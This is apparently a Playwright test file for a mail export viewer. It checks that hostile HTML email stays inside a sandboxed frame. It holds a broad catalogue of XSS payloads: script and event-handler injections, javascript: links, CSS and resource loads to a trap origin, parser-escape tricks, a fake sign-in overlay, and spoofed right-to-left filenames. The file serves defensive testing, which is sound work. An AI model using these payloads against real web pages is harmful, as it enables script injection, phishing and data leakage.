import type { Page } from "playwright-core";
import { expect, test } from "vitest";

import { begin, reaches, stageSignedIn } from "../stage.ts";
import { openChromium, portray } from "./chromium.ts";
import { trap } from "./trap.ts";

/** What would run tries all it could want: to be seen by the page, by the person, and by its own server. */
const script = (origin: string): string =>
  `parent.caught='script';top.location='${origin}/top';alert('caught');fetch('${origin}/fetch');open('${origin}/popup')`;

/** A message for each way in; the name is its subject. */
const hostileHtml = (origin: string): Readonly<Record<string, string>> => ({
  scripts: `<script>${script(origin)}</script><script src="${origin}/script.js"></script>
    <script>document.write("<p>written</p>")</script><noscript><img src="${origin}/noscript.gif"></noscript>`,
  handlers: `<img src=x onerror="${script(origin)}"><body onload="${script(origin)}" onpageshow="${script(origin)}">
    <video src=x onerror="${script(origin)}" autoplay></video><audio src="${origin}/a.mp3" autoplay></audio>
    <details open ontoggle="${script(origin)}"><summary>s</summary></details>
    <input autofocus onfocus="${script(origin)}"><p style="animation:x 1s" onanimationstart="${script(origin)}">p</p>`,
  "remote pictures": `<img src="${origin}/pixel.gif"><img srcset="${origin}/set.gif 1x"><picture><source srcset="${origin}/source.webp"><img></picture>
    <table background="${origin}/background.gif"><tr><td background="${origin}/cell.gif">t</td></tr></table>
    <input type=image src="${origin}/input.gif"><video poster="${origin}/poster.gif"></video><image href="${origin}/image.gif">`,
  forms: `<form id=f action="${origin}/form" method=post><input name=secret value=1 autofocus><button>Go</button></form>
    <button form=f formaction="${origin}/formaction">Go</button><script>f.submit()</script>
    <isindex action="${origin}/isindex">`,
  frames: `<iframe src="${origin}/frame"></iframe><iframe srcdoc="<script>${script(origin)}</script>"></iframe>
    <frameset><frame src="${origin}/frameset"></frameset><object data="${origin}/object"></object>
    <embed src="${origin}/embed"><portal src="${origin}/portal"></portal><applet code="${origin}/applet"></applet>`,
  navigation: `<meta http-equiv="refresh" content="0;url=${origin}/refresh"><base href="${origin}/" target="_top">
    <a id=a href="javascript:${script(origin)}" target=_top>follow me</a>
    <a href="${origin}/link" target=_top ping="${origin}/ping" autofocus>and me</a><map><area href="${origin}/area"></map>`,
  styles: `<style>@import "${origin}/import.css";@font-face{font-family:f;src:url(${origin}/font.woff)}
    body{background:url(${origin}/body.gif);font-family:f}li{list-style:url('${origin}/list.gif')}</style>
    <link rel=stylesheet href="${origin}/sheet.css"><p style="background:u\\72l(${origin}/escaped.gif)">p</p>
    <p style="background:image-set('${origin}/imageset.gif' 1x);cursor:url(${origin}/cursor.cur),auto">p</p>
    <style></sty</style><style>p{background:url(${origin}/torn.gif)</style>`,
  hints: `<link rel=preconnect href="${origin}"><link rel=dns-prefetch href="${origin}"><link rel=prefetch href="${origin}/prefetch">
    <link rel=preload as=image href="${origin}/preload.gif"><link rel=modulepreload href="${origin}/module.js">
    <link rel=icon href="${origin}/icon.ico"><link rel=manifest href="${origin}/manifest.json">
    <script type=speculationrules>{"prerender":[{"urls":["${origin}/prerender"]}]}</script>`,
  drawings: `<svg onload="${script(origin)}"><script>${script(origin)}</script><image href="${origin}/svg.gif"/>
    <use href="${origin}/use.svg#x"/><animate onbegin="${script(origin)}" attributeName=x dur=1s />
    <foreignObject><iframe src="${origin}/foreign"></iframe></foreignObject></svg>
    <math><mtext><style><img src=x onerror="${script(origin)}"></style></mtext></math>`,
  overlays: `<div style="position:fixed;inset:0;z-index:2147483647;background:red">Your session has ended. <a href="${origin}/sign-in" target=_top>Sign in</a></div>
    <style>html,body{height:999999px!important}body::before{content:"caught";position:fixed;inset:0}</style>`,
  escapes: `</iframe></td></table></div></main><script>${script(origin)}</script><h1>caught</h1>
    --><script>${script(origin)}</script><!-- ]]></textarea></title></style></noscript><img src=x onerror="${script(origin)}">
    <!--><img src=x onerror="${script(origin)}">--><![CDATA[<script>${script(origin)}</script>]]>
    <noembed><p title="</noembed><img src=x onerror=${script(origin)}>"></noembed>`,
  "hints, deep down": `${"<div>".repeat(200)}<style><link rel=preconnect href="${origin}"><link rel=prefetch href="${origin}/deep">
    <meta http-equiv=refresh content="0;url=${origin}/deep"></style><link rel=preconnect href="${origin}">`,
  nesting: `${"<div><b><table><tr><td>".repeat(3_000)}deep<img src=x onerror="${script(origin)}">`,
});

/** How the browser says what it refused. */
const REFUSED = /Content Security Policy|sandboxed|^Unsafe attempt/;

/** What no policy covers, so that it is the server's part alone: a connection made beforehand, and what breaks the browser. */
const BEYOND_POLICY = new Set(["hints", "hints, deep down", "nesting"]);

const MARKUP = `<img src=x onerror="parent.caught='header'">`;

test("hostile mail is shown, and that is all it gets", async () => {
  await using elsewhere = await trap();
  await using w = await stageSignedIn({ messages: 1 });
  const mailbox = w.google.mailbox();
  const hostile = Object.entries(hostileHtml(elsewhere.origin)).map(([subject, html]) => ({
    subject,
    id: mailbox.add({ subject, html: `<p>Here it begins.</p>${html}`, labelIds: ["INBOX"] }),
  }));
  const id = await begin(w);
  await reaches(w, id, "completed");

  await using chromium = await openChromium();
  const { page, complaints } = await chromium.open([w.product.origin]);
  const seen = watch(page);
  await page.goto(`${w.product.origin}/#/exports/${id}/mail`);
  await page.getByRole("cell", { name: "scripts" }).waitFor();
  for (const { subject, id: message } of hostile) {
    const address = `${w.product.origin}/#/exports/${id}/mail/${message}`;
    await page.goto(address);
    await page.getByRole("heading", { name: subject, exact: true }).waitFor();
    await page.locator("iframe").or(page.getByRole("alert")).waitFor();
    if ((await page.locator("iframe").count()) > 0) {
      const [, frame] = await framesOf(page);
      await frame!.getByText("Here it begins.").waitFor();
      // Who reads also points and clicks, and what is fixed on top of all else stays in its frame.
      for (const link of await frame!.locator("a").all()) await link.click({ force: true, noWaitAfter: true });
      expect(frame!.childFrames(), subject).toEqual([]);
      expect(await page.locator("iframe").getAttribute("sandbox"), subject).toBe("");
    } else await page.getByRole("alert").getByText("html_too_large").waitFor();
    expect(page.url(), subject).toBe(address);
    expect(await page.evaluate(() => "caught" in globalThis), subject).toBe(false);
    expect(await page.getByRole("heading", { level: 1 }).allInnerTexts(), subject).toEqual([subject]);
    if (subject === "overlays") await portray(page, "hostile-overlay");
    await page.getByRole("radio", { name: "Source (JSON)" }).check();
    await page.getByText("Here it begins.").waitFor();
    await page.getByRole("radio", { name: "HTML" }).check();
  }
  expect(seen).toEqual([]);
  expect(elsewhere.visits).toEqual([]);
  expect(complaints).toEqual([]);
});

test("were the server to let hostile HTML through as it is, its frame would still hold it", async () => {
  await using elsewhere = await trap();
  await using w = await stageSignedIn({ messages: 1 });
  const raw = Object.entries(hostileHtml(elsewhere.origin))
    .filter(([subject]) => !BEYOND_POLICY.has(subject))
    .map(([subject, html]) => `<h2>${subject}</h2>${html}`)
    .toReversed(); // the one that tears everything open comes first
  const message = w.google.mailbox().add({ subject: "All", html: "<p>Let through</p>", labelIds: ["INBOX"] });
  const id = await begin(w);
  await reaches(w, id, "completed");
  await using chromium = await openChromium();
  const { page, complaints } = await chromium.open([w.product.origin, elsewhere.origin]);
  const seen = watch(page);
  for (const html of raw) {
    await page.route(/\/html$/, async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: `<!doctype html><p>Let through</p>${html}` });
    });
    const address = `${w.product.origin}/#/exports/${id}/mail/${message}`;
    await page.goto(address);
    await page.reload();
    const [, frame] = await framesOf(page);
    await frame!.getByText("Let through").waitFor();
    for (const link of await frame!.locator("a, button").all()) await link.dispatchEvent("click");
    expect(page.url()).toBe(address);
    expect(await page.evaluate(() => "caught" in globalThis)).toBe(false);
    await page.unrouteAll();
  }
  expect(seen).toEqual([]);
  expect(elsewhere.visits).toEqual([]);
  // The browser says what it refused, and nothing else happened.
  expect(complaints.filter((text) => !REFUSED.test(text))).toEqual([]);
  expect(complaints.length).toBeGreaterThan(20);
});

test("what a stranger writes into subject, name, label and file name is text, and stays in its line", async () => {
  await using w = await stageSignedIn({ messages: 1 });
  const message = w.google.mailbox().add({
    subject: `${MARKUP} \u202Egnp.exe\0`,
    from: `Bank\u202E${"M".repeat(300)} <x@evil.example>`,
    plain: `${MARKUP}\n\u202Ebackwards\u2028${"no space ".repeat(5)}${"x".repeat(5_000)}`,
    labelIds: ["INBOX", MARKUP],
    attachments: [{ filename: `${MARKUP}\u202Ecod.exe`, mimeType: "text/html", bytes: Buffer.from("x") }],
    internalDate: Date.UTC(2026, 0, 1),
  });
  const id = await begin(w);
  await reaches(w, id, "completed");
  await using chromium = await openChromium();
  const { page, complaints } = await chromium.open([w.product.origin]);
  const seen = watch(page);
  await page.goto(`${w.product.origin}/#/exports/${id}/mail`);
  const link = page.getByRole("link", { name: `${MARKUP} \u{fffd}gnp.exe\u{fffd}` });
  await link.waitFor();
  await portray(page, "hostile-list");
  await page.getByRole("combobox", { name: "Label" }).selectOption(MARKUP);
  await page.getByText("1 message found").waitFor();
  await link.click();
  await page.getByRole("heading", { name: MARKUP }).waitFor();
  await page.getByRole("link", { name: MARKUP }).waitFor();
  await page.getByRole("cell", { name: `${MARKUP}\u{fffd}cod.exe` }).waitFor();
  await page.getByText("backwards").waitFor();
  await portray(page, "hostile-message");
  await page.getByRole("radio", { name: "Source (JSON)" }).check();
  await page
    .getByText(String.raw`\u202e`)
    .first()
    .waitFor();
  await page.goto(`${w.product.origin}/#/exports/${id}/statistics`);
  await page.getByRole("link", { name: MARKUP }).waitFor();
  await portray(page, "hostile-statistics");
  expect(message).not.toBe("");
  expect(await page.locator("img[onerror], [src=x]").count()).toBe(0);
  expect(await page.evaluate(() => "caught" in globalThis)).toBe(false);
  expect(seen).toEqual([]);
  expect(complaints).toEqual([]);
});

/** The page's frames, once the one with the mail is there. */
async function framesOf(page: Page) {
  await page.locator("iframe").waitFor();
  await expect.poll(() => page.frames().length).toBeGreaterThan(1);
  await page.frames()[1]!.waitForLoadState("load");
  return page.frames();
}

/** What a page that only shows mail never does. */
function watch(page: Page): string[] {
  const seen: string[] = [];
  page.on("dialog", (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("download", (download) => seen.push(`download ${download.url()}`));
  page.context().on("page", (other) => seen.push(`window ${other.url()}`));
  page.on("worker", (worker) => seen.push(`worker ${worker.url()}`));
  return seen;
}
